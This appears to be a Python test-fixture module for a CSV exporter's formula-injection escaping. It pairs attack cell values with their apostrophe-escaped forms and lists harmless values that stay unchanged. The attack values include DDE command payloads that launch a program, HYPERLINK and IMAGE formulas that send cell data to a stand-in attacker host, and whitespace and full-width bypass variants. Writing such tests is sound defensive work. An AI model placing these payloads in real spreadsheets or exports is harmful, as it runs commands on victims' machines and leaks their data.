"""Cells of tables: a text, and what stands in a CSV file in its place."""

from __future__ import annotations

FORMULAS: dict[str, str] = {
    "a sum": "=1+1",
    "a program, by way of an old door of Excel": "=cmd|'/C calc'!A0",
    "a link that carries a cell away": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "a picture that carries a cell away": '=IMAGE("https://evil.example/"&A1)',
    "a plus": "+1+1",
    "a minus": "-1+1",
    "a minus and a function": "-SUM(A1:A9)",
    "a function of Lotus": "@SUM(1+1)*cmd|' /C calc'!A0",
    "behind a space": " =1+1",
    "behind a space that does not break": "\u00a0=1+1",
    "behind a tab": "\t=1+1",
    "behind a line feed": "\n=1+1",
    "behind a carriage return": "\r=1+1",
    "a tab and a word": "\tword",
    "in full width": "\uff1d1+1",
    "a plus in full width": "\uff0b1+1",
    "a minus in full width": "\uff0d1+1",
    "an at sign in full width": "\uff20SUM(1)",
    "out of its quotes": '=1",=2,"=3',
    "a number and a command": "-1|cmd",
    "a number in other digits": "-\u0661",
    "two signs": "--1",
}
"""each gets an apostrophe before it"""
HARMLESS: dict[str, str] = {
    "nothing": "",
    "a word": "Orla",
    "a sign in the middle": "a=1",
    "a range": "1-2",
    "a number": "12.5",
    "a number below nothing": "-12.5",
    "a number with its sign": "+3",
    "a small number": "-1.5e-07",
    "quotes, commas and lines": 'a "b", c;\r\nd\ne',
    "a formula in another column, where semicolons separate": "why?;=1+1",
}
"""each stays as it is"""
ALL = {
    **{f"formula: {name}": (text, f"'{text}") for name, text in FORMULAS.items()},
    **{k: (v, v) for k, v in HARMLESS.items()},
}
